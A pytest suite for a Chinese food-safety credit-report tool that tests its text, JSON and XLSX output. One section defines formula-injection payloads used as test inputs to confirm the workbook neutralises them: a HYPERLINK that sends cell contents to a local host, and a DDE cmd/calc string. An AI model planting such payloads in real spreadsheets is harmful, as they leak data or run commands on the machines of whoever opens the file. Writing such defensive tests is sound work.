"""The readable credit file: Chinese text, JSON and a printable XLSX, with the grade and why."""
from __future__ import annotations

import argparse
import datetime as dt
import json
import re

import pytest
from openpyxl import load_workbook

from ingest.files import write_jsonl
from processors.step import replay
from qrisk import cli_risk
from qrisk.credit_report import COLUMNS, build_report, render_text, write_xlsx
from qrisk.demo import CountyGenerator


@pytest.fixture(scope="module")
def county(rules):
    events = CountyGenerator(seed=7).generate()
    return events, replay(events, rules)[0]


def test_report_sections_in_chinese(county, rules):
    _, state = county
    report = build_report(state.files["P09"], rules)
    assert report["title_zh"] == "诚信档案：喜福来糕点（P09）"
    labels = {row["label"]: row["value"] for row in report["profile"]}
    assert labels["食品类别"] == "糕点" and labels["企业编号"] == "P09"
    g = report["grade"]
    assert g["grade"] in ("C", "D") and g["grade_zh"].startswith(g["grade"]) and g["reasons"]
    assert sum(c["points"] for c in report["contributions"]) == pytest.approx(g["score"])
    assert any(c["factor"] == "dynamic.rectification_overdue" and c["event_ids"] for c in report["contributions"])
    [rect] = [r for r in report["rectifications"] if r["overdue"]]
    assert rect["overdue_zh"] == "是" and rect["status_zh"] == "整改中"
    assert any(i["result"] == "不符合" and "主要" in i["findings_zh"] for i in report["inspections"])
    assert report["grade_history"][0]["change_zh"]  # newest first
    assert any(w["title_zh"] == "整改逾期" for w in report["warnings"])
    json.dumps(report, ensure_ascii=False)  # serialisable as is
    text = render_text(report)
    for heading in ("【基本信息】", "【风险等级】", "【风险分构成】", "【等级变化】", "【抽检记录】", "【投诉举报】", "【现场检查】", "【整改】", "【预警】"):
        assert heading in text


def test_a_headings_count_says_what_it_counts(county, rules):
    """A bare "【风险分构成】（10）" under "风险分 81" reads as a score: every count in a heading has its unit."""
    _, state = county
    report = build_report(state.files["W03"], rules)
    text = render_text(report)
    assert f"【风险分构成】（{len(report['contributions'])} 项）" in text
    assert f"【等级变化】（评定 {len(report['grade_history'])} 次）" in text
    assert f"【抽检记录】（{len(report['samples'])} 条）" in text and f"【预警】（{len(report['warnings'])} 条）" in text
    assert not re.search(r"】（\d+）", text)


def test_failed_samples_carry_their_judgement(county, rules):
    _, state = county
    report = build_report(state.files["W03"], rules)
    failed = [s for s in report["samples"] if s["verdict"] == "fail"]
    assert failed and all(s["verdict_zh"] == "不合格" and "铜绿假单胞菌" in s["failed_zh"] and s["detail_zh"] for s in failed)
    assert report["signals"] and all(s["rule"] == "fluctuation.signal" for s in report["signals"])
    assert any(s["signals"] for s in report["series"])
    p05 = build_report(state.files["P05"], rules)
    assert any("防腐剂混合使用时各自用量占其最大使用量的比例之和" in s["failed_zh"] for s in p05["samples"])  # SAMR's wording


def test_xlsx_to_print(county, rules, tmp_path):
    _, state = county
    path = write_xlsx(build_report(state.files["W03"], rules), tmp_path / "w03.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["概要", "风险分构成", "等级变化", "抽检记录", "投诉举报", "现场检查", "整改", "行政处罚记录", "约谈记录", "质量波动监测序列", "预警", "提档升级"]
    campaign = [[c.value for c in row] for row in wb["提档升级"].iter_rows(min_row=3)]
    assert ["检查验收", "未完成", "验收未通过 1 次"] in campaign  # W03 failed its acceptance
    assert wb["概要"]["A1"].value == "诚信档案：清泉水厂（W03）"
    samples = wb["抽检记录"]
    assert [c.value for c in samples[2]][:3] == ["抽样日期", "抽样编号", "食品名称"]
    assert samples.max_row > 10 and samples.page_setup.orientation == "landscape" and samples.freeze_panes == "A3"
    # the alerts sheet is for a supervisor: no internal merge keys
    assert not any("归并键" in str(c.value) for c in wb["预警"][2])
    # a rectification row tells its loop: why it was ordered, what was handed in, who checked it and what they said
    head = [c.value for c in wb["整改"][2]]
    assert {"起因", "整改材料", "复查人", "复查意见"} <= set(head)
    verified = [r for r in state.files["W03"].rectifications if r.verifier]
    assert verified, "the demo verifies some of W03's rectifications"
    rows = [dict(zip(head, (c.value for c in row))) for row in wb["整改"].iter_rows(min_row=3)]
    r = verified[0]
    [row] = [x for x in rows if x["整改编号"] == r.rectification_id]
    assert row["复查人"] == r.verifier and row["起因"] == r.cause and (row["整改材料"] or "") == (r.evidence or "")


def test_credit_report_command(county, tmp_path, capsys):
    events, _ = county
    path = tmp_path / "events.jsonl"
    write_jsonl(events, path)

    def cli(*argv):
        parser = argparse.ArgumentParser(prog="qrisk")
        cli_risk.register(parser.add_subparsers())
        args = parser.parse_args(argv)
        return args.func(args)

    assert cli("credit-file", "W07", "--events", str(path), "--format", "json") == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["enterprise_id"] == "W07" and any(w["rule"] == "complaint.cluster" for w in doc["warnings"])
    # as of before the May cluster: no complaint warning yet
    assert cli("credit-file", "W07", "--events", str(path), "--format", "json", "--as-of", "2025-04-30") == 0
    early = json.loads(capsys.readouterr().out)
    assert not any(w["rule"] == "complaint.cluster" for w in early["warnings"]) and early["as_of"].startswith("2025-04-30")
    assert cli("credit-file", "W07", "--events", str(path)) == 0
    assert "诚信档案：山泉源水业" in capsys.readouterr().out
    out = tmp_path / "w07.xlsx"
    assert cli("credit-file", "W07", "--events", str(path), "--format", "xlsx", "--out", str(out)) == 0
    assert out.exists() and load_workbook(out)["概要"]["A1"].value.startswith("诚信档案")
    assert cli("credit-file", "NOPE", "--events", str(path)) == 2
    assert cli("credit-file", "W07", "--events", str(path), "--format", "xlsx") == 2


def test_signal_charts_are_drawn_for_series_that_signalled(county, tmp_path, capsys):
    events, _ = county
    path = tmp_path / "events.jsonl"
    write_jsonl(events, path)
    parser = argparse.ArgumentParser(prog="qrisk")
    cli_risk.register(parser.add_subparsers())
    charts = tmp_path / "charts"
    args = parser.parse_args(["credit-file", "W03", "--events", str(path), "--charts", str(charts)])
    assert args.func(args) == 0
    drawn = sorted(p.name for p in charts.glob("*.png"))
    assert "W03_饮用纯净水_oxygen_consumption.png" in drawn  # the planted drift
    png = (charts / "W03_饮用纯净水_oxygen_consumption.png").read_bytes()
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 20_000


def test_retests_are_marked_with_what_they_decided(rules):
    from schemas.upcast import parse_event
    from tests.test_fold import _sample, golden

    reg = parse_event(golden("enterprise.registered"))
    overturned = [_sample("2026-03-10T09:00:00+08:00", False, False), _sample("2026-03-25T09:00:00+08:00", True, True)]
    refused = [_sample("2026-04-10T09:00:00+08:00", False, False, microbial=True, sample_no="DBJ-MICROBIAL"),
               _sample("2026-04-25T09:00:00+08:00", True, True, sample_no="DBJ-MICROBIAL")]
    state, _ = replay([reg, *overturned, *refused], rules)
    report = build_report(state.files["E-330110-001"], rules)
    detail = {s["event_id"]: s["detail_zh"] for s in report["samples"]}
    assert detail[str(overturned[0].event_id)].startswith("已由复检结论取代")
    assert detail[str(overturned[1].event_id)].startswith("复检")
    assert detail[str(refused[1].event_id)].startswith("复检不予采信")
    assert "不予复检" not in detail[str(refused[0].event_id)]
    # the chart keeps the overturned batch's point: its line says what the re-test found, where it differs
    last = {s["item_name"]: s["last"] for s in build_report(replay([reg, *overturned], rules)[0].files["E-330110-001"], rules)["series"]}
    assert last["溴酸盐"] == "2026-03-05：0.02 mg/L（复检结果为 未检出，以复检为准）"
    assert last["电导率（25℃）"] == "2026-03-05：3.2 µS/cm"  # (the same value again: nothing to add)
    # the re-test corrected in its turn by its lab: what stands is the correction
    import copy

    from tests.test_fold import RETEST_LAB
    from tests.test_risk import ev

    items = copy.deepcopy(golden("sampling.result")["payload"]["items"])
    items[0]["values"], items[0]["lab_verdict"] = [0, 0, 0, 0, 0], "合格"
    items[2]["values"], items[2]["lab_verdict"] = [0.005], "合格"
    corrected = ev("sampling.result", "2026-03-26T09:00:00+08:00", retest=True, items=items, lab=RETEST_LAB)
    file = replay([reg, *overturned, corrected], rules)[0].files["E-330110-001"]
    last = {s["item_name"]: s["last"] for s in build_report(file, rules)["series"]}
    assert last["溴酸盐"] == "2026-03-05：0.02 mg/L（复检结果为 0.005 mg/L，以复检为准）"


def test_the_report_from_a_files_view_equals_the_report_from_the_file(county, rules):
    """With the Kafka log the API has only the sink's copy of each file (its view, as JSON): the
    report built from it is the same, section by section, for every enterprise of the demo."""
    from qrisk.credit_report import report_from_view

    _, state = county
    assert len(state.files) >= 30
    for eid, file in sorted(state.files.items()):
        view = json.loads(json.dumps(file.view(), ensure_ascii=False))
        expected = json.loads(json.dumps(build_report(file, rules), ensure_ascii=False, default=str))
        got = json.loads(json.dumps(report_from_view(view, rules), ensure_ascii=False, default=str))
        for section in expected:
            assert got[section] == expected[section], (eid, section)
    graded = [f for f in state.files.values() if f.risk.current and f.risk.current.contributions]
    assert graded, "the demo grades enterprises: their reasons must survive the view"


def test_every_tiering_dimension_has_its_chinese_name():
    from typing import get_args

    from qrisk.credit_report import DIMENSION_ZH
    from schemas.events import CampaignDimension

    assert set(DIMENSION_ZH) == set(get_args(CampaignDimension))


def test_an_inspection_past_its_due_date_is_marked_overdue(county, rules):
    from processors.risk import as_of as file_as_of

    _, state = county
    marked = {True: 0, False: 0}
    for file in state.files.values():
        report = build_report(file, rules)
        due, now = file.risk.next_inspection_due, file_as_of(file)
        if due is None or now is None:
            continue
        as_of = rules.local_date(now)
        overdue = due < as_of
        assert report["grade"]["inspection_overdue"] is overdue
        assert ("，已逾期" in render_text(report)) is overdue
        marked[overdue] += 1
    assert marked[False], "most are within their interval"


def test_an_inspection_due_by_the_grace_after_a_regrade_says_so(rules):
    from tests.test_risk import E, ev, pa_sample, registered

    # B inspected 2025-04-15; C from 2025-10-31: due 30 days after the change, not 182 days after 04-15 (already past)
    events = [registered("2025-01-02T09:00:00+08:00"),
              ev("inspection.completed", "2025-04-15T10:00:00+08:00", inspection_id="I1", result="符合", findings=[]),
              pa_sample("2025-10-31T10:00:00+08:00")]
    state, _ = replay(events, rules)
    report = build_report(state.files[E], rules)
    g = report["grade"]
    assert g["next_inspection_due"] == "2025-11-30" and not g["inspection_overdue"] and g["regraded_on"] == "2025-10-31"
    assert "下次现场检查应于 2025-11-30 前（按本县风险分级监管要求，C 级每年至少 2 次；2025-10-31 等级调整后给予 30 天）" in render_text(report)


def test_a_fractional_inspection_rate_reads_in_whole_years(rules):
    # A: 0.5 a year is 每 2 年至少 1 次, never 每年至少 0.5 次; and it is the county's policy, not a regulation
    from tests.test_risk import E, registered

    state, _ = replay([registered(category="pastry", population_served=None, campaign_tier="unrated")], rules)
    text = render_text(build_report(state.files[E], rules))
    assert "（按本县风险分级监管要求，A 级每 2 年至少 1 次）" in text and "0.5 次" not in text


def test_a_not_detected_latest_result_reads_as_such_not_as_zero(county, rules):
    from qrisk.credit_report import report_from_view

    _, state = county
    nd = []
    for file in state.files.values():
        report = build_report(file, rules)
        # the report lists the charts in key order
        for s, series in zip(report["series"], sorted(file.fluctuation.series.values(), key=lambda x: x.key)):
            sample = next(r for r in file.samples if r.event_id == series.recent[-1][4])
            item = next(i for i in sample.judgement.items if i.item_code == series.item_code)
            if all(v == "ND" for v in item.values):
                nd.append((file.enterprise_id, s["last"], item.detection_limit))
        # the Kafka path builds the same report from the sink's copy of the file
        assert report_from_view(file.view(), rules)["series"] == report["series"]
    assert nd, "the demo county has results the lab reported as not detected"
    for _, last, limit in nd:
        assert "未检出" in last and "：0 " not in last and not last.endswith("：0")
        if limit is not None:
            assert f"（检出限 {limit:g} " in last


def test_ph_has_no_unit_and_the_campaign_tier_is_no_grade(county, rules):
    _, state = county
    report = build_report(state.files["W03"], rules)
    [ph] = [s for s in report["series"] if s["item_name"] == "pH值"]
    assert ph["last"] and "pH" not in ph["last"]
    labels = {row["label"]: row["value"] for row in report["profile"]}
    assert "提档升级分档" not in labels and labels["提档升级档次"].startswith(("A档", "B档", "C档", "D档"))
    assert "不是风险等级" in labels["提档升级档次"]
    [tier] = [r for r in report["campaign"] if r["item"] == "提档升级档次"]
    assert tier["status"].endswith("档")


def test_a_comparison_test_gives_units_and_what_satisfactory_means(county, rules):
    _, state = county
    rows = [r for f in state.files.values() for r in build_report(f, rules)["campaign"] if r["item"].startswith("比对试验 ")]
    assert rows
    for r in rows:
        assert not re.search(r"比对试验 [a-z_]", r["item"]), f"an item the catalogue knows, by its Chinese name: {r['item']}"
        assert (re.search(r"（(\|En\| ≤ 1 |≤ \d+% )为满意）", r["detail"])
                or re.search(r"z = -?[\d.]+（\|z\| ≤ 2 满意，2 < \|z\| < 3 可疑，\|z\| ≥ 3 不满意）", r["detail"])  # a colony count: ISO 13528's bands
                or "双方均未检出" in r["detail"] or "一方未检出" in r["detail"]), r["detail"]
        assert "实验室结果为 0" not in r["detail"] or "相对偏差" in r["detail"]
    counts = [r for r in rows if "菌落总数" in r["item"] or "大肠菌群" in r["item"]]
    assert counts and all("对数差" in r["detail"] or "未检出" in r["detail"] for r in counts), counts
    oxygen = [r for r in rows if "耗氧量" in r["item"]]
    assert oxygen and all(r["detail"].count(" mg/L") == 2 for r in oxygen)


def test_an_item_not_applicable_to_the_product_is_explained_only_when_the_lab_failed_it(rules):
    """A spring water's pH is not judged on GB 17323: that is no finding for the file, unless
    the lab failed the product on it (then the supervisor must check the product's type)."""
    from schemas.upcast import parse_event
    from tests.test_fluctuation import water_sample
    from tests.conftest import golden

    reg = parse_event(golden("enterprise.registered"))
    quiet = water_sample(dt.date(2025, 3, 1), 0.8, product="饮用天然泉水", ph=7.6)
    doc = golden("sampling.result")
    doc["event_id"] = "00000000-0000-4000-8000-00000000a1a1"
    doc["payload"].update(product="饮用天然泉水", sample_no="DBJ-SPRING-2", sampled_on="2025-04-01", production_date="2025-03-20",
                          items=[{"item_code": "ph", "values": [7.6], "unit": "pH", "lab_verdict": "不合格"}])
    failed_by_lab = parse_event(doc)
    state, _ = replay([reg, quiet, failed_by_lab], rules)
    detail = {s["event_id"]: (s["verdict"], s["detail_zh"]) for s in build_report(state.files["E-330110-001"], rules)["samples"]}
    assert detail[str(quiet.event_id)] == ("pass", "")
    verdict, text = detail[doc["event_id"]]
    assert verdict == "undetermined" and "仅适用于饮用纯净水" in text and "与检验机构结论不一致：pH值（检验报告：不合格；系统判定：不适用）" in text


def test_the_sampling_kpi_says_which_samples_it_counted(county, rules):
    _, state = county
    rows = [r for f in state.files.values() for r in build_report(f, rules)["campaign"] if r["item"] == "省级抽检合格率"]
    assert rows and {r["status"] for r in rows} <= {"达标", "未达标", "无省级抽检数据"}
    assert all("省级抽检" in r["detail"] for r in rows if r["status"] != "无省级抽检数据")


def test_the_chart_heading_counts_the_pass_rate_charts_signals_too(county, rules):
    _, state = county
    signalled = [f for f in state.files.values()
                 if any(w.dedup_key.startswith(f"{f.enterprise_id}:fluctuation:p:") for w in f.warnings)]
    assert signalled, "the demo county has an enterprise whose own pass-rate chart signalled"
    for f in signalled:
        heading = next(line for line in render_text(build_report(f, rules)).splitlines() if line.startswith("【质量波动监测序列】"))
        assert "抽检不合格率控制图（p 图）出现信号" in heading, heading


def test_a_passed_acceptance_shows_what_it_must_be_checked_against(county, rules):
    _, state = county
    rows = build_report(state.files["P05"], rules)["campaign"]
    checks = [r for r in rows if r["item"].startswith("验收须核实·")]
    assert checks and all(r["status"] == "须核实" and r["detail"] for r in checks)
    assert any("行政处罚" in r["item"] for r in checks)  # the penalty of 2025-11-14, before its acceptance


def test_the_sampling_line_says_the_undetermined_batches_its_pass_rate_leaves_out(rules):
    from schemas.upcast import parse_event
    from tests.conftest import golden
    from tests.test_fluctuation import water_sample

    days = [dt.date(2026, 1, 10) + dt.timedelta(days=30 * i) for i in range(4)]
    log = [parse_event(golden("enterprise.registered"))] + [water_sample(d, 0.8) for d in days[:2]]
    log.append(water_sample(days[2], 0.8, pa=(0, 45, 0, 0, 0)))
    doc = water_sample(days[3], 0.8).model_dump(mode="json")
    doc["payload"]["items"][1]["unit"] = "mg/dL"  # not a unit the catalogue reads: undetermined
    log.append(parse_event(doc))
    (f,) = replay(log, rules)[0].files.values()
    labels = {row["label"]: row["value"] for row in build_report(f, rules)["profile"]}
    assert labels["抽检"] == "4 批次，不合格 1 批次，无法判定 1 批次，合格率 66.7%"


def test_a_county_alert_tipped_by_the_enterprise_reads_as_the_countys(rules):
    from tests.test_fluctuation import other_producer_failure, water_sample
    from tests.test_risk import E, registered

    state, _ = replay([*other_producer_failure(), registered("2025-01-05T09:00:00+08:00"),
                       water_sample(dt.date(2025, 1, 10), 0.8, pa=(0, 3, 0, 0, 0)),
                       water_sample(dt.date(2025, 2, 10), 0.8, pa=(0, 0, 9, 0, 0))], rules)
    report = build_report(state.files[E], rules)
    county = [w for w in report["warnings"] if w["dedup_key"].startswith("county:")]
    own = [w for w in report["warnings"] if w["rule"] == "fluctuation.signal" and not w["dedup_key"].startswith("county:")]
    assert county and all(w["title_zh"] == "质量波动（县级预警，由本企业抽检触发）" for w in county)
    assert own and all(w["title_zh"] == "质量波动" for w in own)


def test_the_reasons_add_up_to_the_score_with_the_cap_that_holds_them(county, rules):
    """W03: D with a dynamic cap: the reasons name it, and their points add up to the score printed."""
    _, state = county
    report = build_report(state.files["W03"], rules)
    g = report["grade"]
    points = [float(re.search(r" ([+-]\d+(?:\.\d+)?)（", r).group(1)) for r in g["reasons"]]
    assert sum(points) == pytest.approx(g["score"])
    assert any(r.startswith("动态因素上限 -") for r in g["reasons"])
    assert "动态因素上限" in render_text(report).split("主要原因：")[1].split("【")[0]


def test_each_warning_says_how_its_alert_was_handled(county, tmp_path, capsys):
    """A supervisor reading the credit file sees, beside each warning, where its alert stands: closed
    by whom and why, being handled, or still waiting past its deadline — from the alerts stage folded
    over the same log (the alert.action steps are events in it)."""
    from qrisk.backtest import state_as_of
    from schemas.events import SCHEMA_VERSION, event_adapter

    events, _ = county
    rules = cli_risk._rules(argparse.Namespace(policy=None))
    alerts: dict = {}
    state_as_of(events, None, rules, alerts=alerts)
    cluster = next(a for a in alerts.values() if a.enterprise_id == "W07" and a.rule == "complaint.cluster")
    assert cluster.state == "open"
    at = cluster.last_occurred_at + dt.timedelta(days=3)
    steps = [
        event_adapter.validate_python({
            "event_id": f"00000000-0000-4000-8000-00000000000{i}", "event_type": "alert.action", "schema_version": SCHEMA_VERSION,
            "enterprise_id": "W07", "occurred_at": (at + dt.timedelta(hours=i)).isoformat(), "source": {"kind": "bureau", "id": "tests"},
            "payload": {"alert_id": cluster.alert_id, "action": action, "actor": "李文静", "note": note}})
        for i, (action, note) in enumerate([("acknowledge", ""), ("close", "投诉经核查为个别批次包装破损，已督促企业更换供应商")], 1)
    ]
    path = tmp_path / "events.jsonl"
    write_jsonl([*events, *steps], path)
    parser = argparse.ArgumentParser(prog="qrisk")
    cli_risk.register(parser.add_subparsers())
    args = parser.parse_args(["credit-file", "W07", "--events", str(path), "--format", "json"])
    assert args.func(args) == 0
    doc = json.loads(capsys.readouterr().out)
    rows = [w for w in doc["warnings"] if w["dedup_key"] == cluster.dedup_key]
    assert rows and all(w["handling_zh"].startswith(f"已关闭（{cluster.alert_id}") for w in rows)
    assert all("李文静关闭：投诉经核查为个别批次包装破损" in w["handling_zh"] for w in rows)
    # every warning row says something, and an alert nobody acknowledged in time says it is overdue
    assert all(w["handling_zh"] for w in doc["warnings"])

    args = parser.parse_args(["credit-file", "W07", "--events", str(path), "--format", "text"])
    assert args.func(args) == 0
    text = capsys.readouterr().out
    assert "处置情况：已关闭" in text and "文中时间均为北京时间" in text


def test_an_alert_past_its_deadline_reads_as_overdue_and_escalated():
    from qrisk.credit_report import handling_zh

    # escalated and told (the escalation step stamps notified_at when it sends)
    alert = {"alert_id": "AL-1", "state": "open", "state_zh": "待处置", "respond_by": "2025-06-18T05:02:00Z", "escalated": True,
             "notified_at": "2025-06-18T06:00:00Z", "receivers": ["town"],
             "steps": [{"action": "opened", "at": "2025-06-17T05:02:00Z", "note": ""},
                       {"action": "escalated", "at": "2025-06-18T06:00:00Z", "note": "生成后 25 小时仍未确认（…），升级通报"}]}
    assert handling_zh(alert, 8, dt.datetime(2025, 7, 1, tzinfo=dt.timezone.utc)) == "待处置（AL-1，应于 2025-06-18 13:02 前确认，已逾期，已升级上报）"
    assert handling_zh(alert, 8, dt.datetime(2025, 6, 1, tzinfo=dt.timezone.utc)) == "待处置（AL-1，应于 2025-06-18 13:02 前确认，已升级上报）"
    closed = {"alert_id": "AL-2", "state": "closed", "state_zh": "已关闭", "closed_at": "2025-06-20T02:00:00Z", "escalated": True}
    assert handling_zh(closed, 8) == "已关闭（AL-2，2025-06-20）"  # the alerts table's copy: no steps, its date
    assert handling_zh(None, 8).startswith("无预警记录")


def test_an_acknowledged_alert_says_by_when_it_is_to_be_handled():
    from qrisk.credit_report import handling_zh

    # acknowledging is not handling (早处置): the file says by when the order or the closing is due, and when it was not
    alert = {"alert_id": "AL-3", "state": "acknowledged", "state_zh": "已确认", "respond_by": "2025-06-18T05:02:00Z",
             "handle_by": "2025-06-21T05:02:00Z", "handling_overdue": False, "assignee": "王五",
             "steps": [{"action": "acknowledged", "at": "2025-06-18T02:00:00Z", "note": ""}]}
    assert handling_zh(alert, 8, dt.datetime(2025, 6, 19, tzinfo=dt.timezone.utc)) == (
        "已确认（AL-3，负责人 王五，应于 2025-06-21 13:02 前责令整改或关闭）")
    assert handling_zh({**alert, "handling_overdue": True}, 8, dt.datetime(2025, 6, 19, tzinfo=dt.timezone.utc)) == (
        "已确认（AL-3，负责人 王五，应于 2025-06-21 13:02 前责令整改或关闭，已确认超时未处置）")
    assert handling_zh(alert, 8, dt.datetime(2025, 6, 22, tzinfo=dt.timezone.utc)).endswith("已确认超时未处置）")


def _escalated_alert(rules, pol):
    """One unqualified sample nobody acknowledged, folded through the alert lifecycle with ``pol``
    until it escalated: the alert's view, as the credit file gets it."""
    from tests.test_alerts import County, failing, unqualified
    from tests.test_risk import ev, registered

    c = County(rules, pol)
    c.feed(registered("2026-01-05T09:00:00+08:00"))
    alert = unqualified(c.feed(failing("2026-02-10T10:00:00+08:00")))[0].alert
    c.feed(ev("clock.tick", "2026-02-12T10:00:00+08:00", enterprise_id="*"))
    assert alert.escalated
    return alert.view()


def test_an_escalation_that_reached_nobody_does_not_read_as_reported(rules):
    """The built-in policy has no escalate_to and no routes: the escalation step notes that nobody got
    it, receivers stay [] and notified_at null — "已升级上报" would tell the reader the county knows."""
    from qrisk.credit_report import handling_zh
    from schemas.policy import Policy
    from tests.test_alerts import policy

    now = dt.datetime(2026, 2, 13, tzinfo=dt.timezone.utc)
    nobody = _escalated_alert(rules, Policy())
    assert nobody["receivers"] == [] and nobody["notified_at"] is None
    text = handling_zh(nobody, 8, now)
    assert "已升级上报" not in text and text.endswith("已逾期，升级无人接收（未配置接收人））"), text
    # being rectified since, it still says the escalation went to nobody
    rectifying = {**nobody, "state": "rectifying", "state_zh": "整改中"}
    assert handling_zh(rectifying, 8, now) == f"整改中（{nobody['alert_id']}，曾逾期未确认，升级无人接收（未配置接收人））"
    # nobody told at opening (no route), but escalate_to has the county's chief: that one was reported
    chief = _escalated_alert(rules, policy(routes=[], escalate_to=["chief"]))
    assert "此前未通知任何人" in chief["steps"][-1]["note"]
    assert handling_zh(chief, 8, now).endswith("已逾期，已升级上报）")
    # routed and escalated: reported
    assert handling_zh(_escalated_alert(rules, policy()), 8, now).endswith("，已升级上报）")


def test_the_demo_credit_file_says_no_escalation_reached_anyone(county, tmp_path, capsys):
    """W03 of the demo (`qrisk credit-file W03`): the built-in policy tells nobody, so no warning reads 已升级上报."""
    events, _ = county
    path = tmp_path / "events.jsonl"
    write_jsonl(events, path)
    parser = argparse.ArgumentParser(prog="qrisk")
    cli_risk.register(parser.add_subparsers())
    args = parser.parse_args(["credit-file", "W03", "--events", str(path), "--format", "text"])
    assert args.func(args) == 0
    text = capsys.readouterr().out
    assert "已升级上报" not in text
    assert "整改中（AL-23418bdddf0ac50b，曾逾期未确认，升级无人接收（未配置接收人））" in text


# --------------------------------------------------------------------------- text from outside stays text in the workbook

LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"点击查看详情")'
COMPLAINTS = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3 桶装水有异味", "@SUM(1,2) 水中有异物", "＝HYPERLINK(\"http://127.0.0.1:9/\")"]


def _hostile(events):
    """W07's events as a hostile public, lab and registration could write them: complaint texts, the
    product and lab names and the enterprise name that a spreadsheet would read as formulas."""
    out, complaints = [], iter(COMPLAINTS)
    for e in events:
        p = e.payload if e.enterprise_id == "W07" else None
        kind = type(e).__name__
        if kind == "EnterpriseRegistered" and p is not None:
            e = e.model_copy(update={"payload": p.model_copy(update={"name": "=山泉源&P水业"})})
        elif kind == "ComplaintReceivedEvent" and p is not None:
            e = e.model_copy(update={"payload": p.model_copy(update={"text": next(complaints, LEAK)})})
        elif kind == "SamplingResultEvent" and p is not None:
            e = e.model_copy(update={"payload": p.model_copy(update={"product": '=HYPERLINK("http://127.0.0.1:9/?p="&A1,"饮用水")',
                                                                     "lab": "@县检验中心"})})
        out.append(e)
    return out


def test_xlsx_text_from_outside_is_never_a_formula(county, rules, tmp_path):
    import zipfile

    events, _ = county
    state = replay(_hostile(events), rules)[0]
    report = build_report(state.files["W07"], rules)
    assert {c["text"] for c in report["complaints"]} >= set(COMPLAINTS[:4])  # (the demo's W07 has complaints enough)
    assert report["series"] and report["samples"]
    path = write_xlsx(report, tmp_path / "w07.xlsx")

    with zipfile.ZipFile(path) as z:
        sheets = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}
    assert len(sheets) == 12
    assert not [n for n, xml in sheets.items() if "<f>" in xml or "<f " in xml], "a text cell became a formula"

    wb = load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f" or str(c.value).startswith(("=", "+", "-", "@", "＝"))]
    complaints = {row[6].value for row in wb["投诉举报"].iter_rows(min_row=3)}  # (内容, after 涉及产品)
    assert {"'" + t for t in COMPLAINTS[:4]} <= complaints  # the text kept whole, behind the quote a spreadsheet shows as text
    product = "'" + '=HYPERLINK("http://127.0.0.1:9/?p="&A1,"饮用水")'
    samples = [[c.value for c in row] for row in wb["抽检记录"].iter_rows(min_row=3)]
    assert samples and all(r[2] == product and r[4] == "'@县检验中心" for r in samples)
    assert {row[0].value for row in wb["质量波动监测序列"].iter_rows(min_row=3)} == {product}
    profile = {row[0].value: row[1].value for row in wb["概要"].iter_rows() if row[0].value}
    assert profile["企业名称"] == "'=山泉源&P水业"
    # the printed footer shows the name's "&" as written, not as the code &P (the page number)
    assert wb["概要"].oddFooter.center.text == "诚信档案：=山泉源&&P水业（W07）  第 &P 页，共 &N 页"
    text = render_text(report)  # (plain text, not a spreadsheet: it keeps what was sent, unquoted)
    assert LEAK in text and "=山泉源&P水业" in text


def test_the_printed_report_masks_callers_counts_only_fines_in_force_and_traces_penalties_and_retractions(rules):
    """The credit-file auditor's review: the report is printed and handed on (the caller's name and numbers masked,
    as the register shows them); a revoked decision's fine is not in the total; the deciding authority is listed;
    a retracted report says when and by whom."""
    from tests.test_retraction import retraction
    from tests.test_risk import E, ev, pa_sample, registered

    text = "我是王小明，身份证 3301 0619 9001 0112 34，电话13812345678。喝了以后腹泻"
    complaint = ev("complaint.received", "2026-03-01T10:00:00+08:00", complaint_id="TS-PII-9", channel="12315", category="illness",
                   text=text, verified=True)
    answered = ev("complaint.resolved", "2026-03-05T10:00:00+08:00", complaint_id="TS-PII-9", verified=True,
                  outcome="已回电王小明（13812345678），企业已召回")
    decision = ev("enforcement.decided", "2026-05-18T15:00:00+08:00")
    second = ev("enforcement.decided", "2026-06-18T15:00:00+08:00", decision_no="示范县市监处罚〔2026〕30号", decided_on="2026-06-18",
                penalties=[{"kind": "fine", "amount_yuan": 20000}])
    revoked = ev("enforcement.revoked", "2026-08-20T09:00:00+08:00")  # the golden one: 〔2026〕12号
    failed = pa_sample("2026-04-01T10:00:00+08:00", sample_no="S-RETRACT")
    back = retraction("S-RETRACT", at="2026-04-10T09:30:00+08:00")
    state, _ = replay([registered(), complaint, answered, failed, back, decision, second, revoked], rules)
    report = build_report(state.files[E], rules)
    (row,) = report["complaints"]
    assert "王小明" not in row["text"] + row["outcome"] and "13812345678" not in row["text"] + row["outcome"]
    assert "1990" not in row["text"] and row["text"].startswith("我是王**，身份证 330106********1234")
    assert state.files[E].complaints[0].text == text  # (the file keeps the text as received: the bureau calls back)
    headline = dict((p["label"], p["value"]) for p in report["profile"])["行政处罚"]
    assert headline.startswith("1 件，罚款合计 20000 元（另有已撤销决定的罚款 50000 元，不再计入）"), headline
    assert {r["decision_no"]: r["authority"] for r in report["enforcements"]}["示范县市监处罚〔2026〕12号"] == "示范县市场监督管理局"
    assert "处罚机关" in render_text(report)
    (retracted,) = [s for s in report["samples"] if s["sample_no"] == "S-RETRACT"]
    assert "县市场监督管理局 于 2026-04-10 09:30 撤销" in retracted["detail_zh"], retracted["detail_zh"]


def test_every_record_of_the_workbook_names_the_event_it_rests_on(county, rules, tmp_path):
    """The auditor's question of any entry: which event recorded it.  The workbook's complaint, inspection,
    rectification and interview sheets carry the event ids (the text leaves ids out, as for samples)."""
    _, state = county
    file = next(f for f in state.files.values() if f.complaints and f.inspections and f.rectifications)
    report = build_report(file, rules)
    for section in ("complaints", "inspections", "rectifications"):
        assert all(r["event_id"] for r in report[section]), section
        assert "event_id" in dict(COLUMNS[section]) or any(k.endswith("event_id") for k, _ in COLUMNS[section])
    resolved = [c for c in file.complaints if c.resolution_event_id]
    assert {r["resolution_event_id"] for r in report["complaints"]} >= {c.resolution_event_id for c in resolved}
    out = tmp_path / "file.xlsx"
    write_xlsx(report, out)
    wb = load_workbook(out)
    headers = {ws.title: [c.value for c in ws[2]] for ws in wb.worksheets}  # (row 1: the sheet's title)
    assert any("事件" in h for h in headers.get("投诉举报", [])) and "办结事件" in headers.get("投诉举报", []), headers.keys()
